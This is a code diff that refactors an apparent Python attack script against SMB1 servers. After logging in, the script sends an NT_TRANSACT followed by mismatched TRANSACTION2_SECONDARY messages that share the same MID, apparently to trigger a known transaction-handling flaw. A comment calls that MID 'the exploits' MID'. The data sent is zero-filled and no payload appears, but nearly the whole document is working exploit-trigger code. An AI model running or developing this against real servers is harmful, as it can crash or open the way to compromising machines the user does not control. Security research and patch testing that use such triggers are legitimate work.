@@ -21,21 +21,22 @@ FIRST = 1000
 CHUNK = 4096
 
 
-def command(cmd, params, data):
+def send(conn, tid, mid, cmd, params, data):
+    """One SMB1 message of command @cmd on tree @tid with MID @mid."""
     c = smb.SMBCommand(cmd)
     c["Parameters"] = params
     c["Data"] = data
-    return c
+    pkt = smb.NewSMBPacket()
+    pkt["Tid"] = tid
+    pkt["Mid"] = mid
+    pkt.addCommand(c)
+    conn.sendSMB(pkt)
 
 
-def main():
-    server, user, password = sys.argv[1:4]
-    conn = smb.SMB("*SMBSERVER", server, sess_port=445)
-    conn.login(user, password)
-    tid = conn.tree_connect_andx("\\\\%s\\IPC$" % server, "")
-    mid = 0  # the exploits' MID; secondaries find their transaction by it
-
-    # NT_TRANSACT: header 32, WordCount 1, 19 words + one setup word, ByteCount 2
+def nt_transact(conn, tid, mid):
+    """NT_TRANSACT of function 0: 30 parameter bytes, FIRST of TOTAL_DATA
+    data bytes; the parameters follow the ByteCount (header 32, WordCount 1,
+    19 words and one setup word, ByteCount 2), 4-aligned."""
     p = smb.SMBNTTransaction_Parameters()
     p["TotalParameterCount"] = 30
     p["TotalDataCount"] = TOTAL_DATA
@@ -54,11 +55,38 @@ def main():
     d["NT_Trans_Parameters"] = b"\0" * 30
     d["Pad2"] = b""
     d["NT_Trans_Data"] = b"\0" * FIRST
-    pkt = smb.NewSMBPacket()
-    pkt["Tid"] = tid
-    pkt["Mid"] = mid
-    pkt.addCommand(command(smb.SMB.SMB_COM_NT_TRANSACT, p, d))
-    conn.sendSMB(pkt)
+    send(conn, tid, mid, smb.SMB.SMB_COM_NT_TRANSACT, p, d)
+
+
+def trans2_secondary(conn, tid, mid, disp):
+    """TRANSACTION2_SECONDARY with CHUNK data bytes at @disp, right after
+    the ByteCount (header 32, WordCount 1, 9 words, ByteCount 2)."""
+    p = smb.SMBTransaction2Secondary_Parameters()
+    p["TotalParameterCount"] = 0
+    p["TotalDataCount"] = TOTAL_DATA & 0xFFFF
+    p["ParameterCount"] = 0
+    p["ParameterOffset"] = 0
+    p["ParameterDisplacement"] = 0
+    p["DataCount"] = CHUNK
+    p["DataOffset"] = 32 + 1 + 18 + 2
+    p["DataDisplacement"] = disp
+    p["FID"] = 0
+    d = smb.SMBTransaction2Secondary_Data()
+    d["Pad1"] = b""
+    d["Trans_Parameters"] = b""
+    d["Pad2"] = b""
+    d["Trans_Data"] = b"\0" * CHUNK
+    send(conn, tid, mid, smb.SMB.SMB_COM_TRANSACTION2_SECONDARY, p, d)
+
+
+def main():
+    server, user, password = sys.argv[1:4]
+    conn = smb.SMB("*SMBSERVER", server, sess_port=445)
+    conn.login(user, password)
+    tid = conn.tree_connect_andx("\\\\%s\\IPC$" % server, "")
+    mid = 0  # the exploits' MID; secondaries find their transaction by it
+
+    nt_transact(conn, tid, mid)
     print("NT_TRANSACT mid %d: %d of %d data bytes" % (mid, FIRST, TOTAL_DATA))
     try:
         r = conn.recvSMB()
@@ -66,32 +94,9 @@ def main():
         print("answer: status 0x%08x" % status)
     except Exception as e:  # the answer does not matter
         print("answer: %s" % e)
-
-    disp = FIRST
-    for _ in range(2):
-        p = smb.SMBTransaction2Secondary_Parameters()
-        p["TotalParameterCount"] = 0
-        p["TotalDataCount"] = TOTAL_DATA & 0xFFFF
-        p["ParameterCount"] = 0
-        p["ParameterOffset"] = 0
-        p["ParameterDisplacement"] = 0
-        p["DataCount"] = CHUNK
-        off = 32 + 1 + 18 + 2
-        p["DataOffset"] = off
-        p["DataDisplacement"] = disp
-        p["FID"] = 0
-        d = smb.SMBTransaction2Secondary_Data()
-        d["Pad1"] = b""
-        d["Trans_Parameters"] = b""
-        d["Pad2"] = b""
-        d["Trans_Data"] = b"\0" * CHUNK
-        pkt = smb.NewSMBPacket()
-        pkt["Tid"] = tid
-        pkt["Mid"] = mid
-        pkt.addCommand(command(smb.SMB.SMB_COM_TRANSACTION2_SECONDARY, p, d))
-        conn.sendSMB(pkt)
+    for disp in (FIRST, FIRST + CHUNK):
+        trans2_secondary(conn, tid, mid, disp)
         print("TRANSACTION2_SECONDARY mid %d: %d bytes at %d" % (mid, CHUNK, disp))
-        disp += CHUNK
     try:
         conn.logoff()
     except Exception as e:
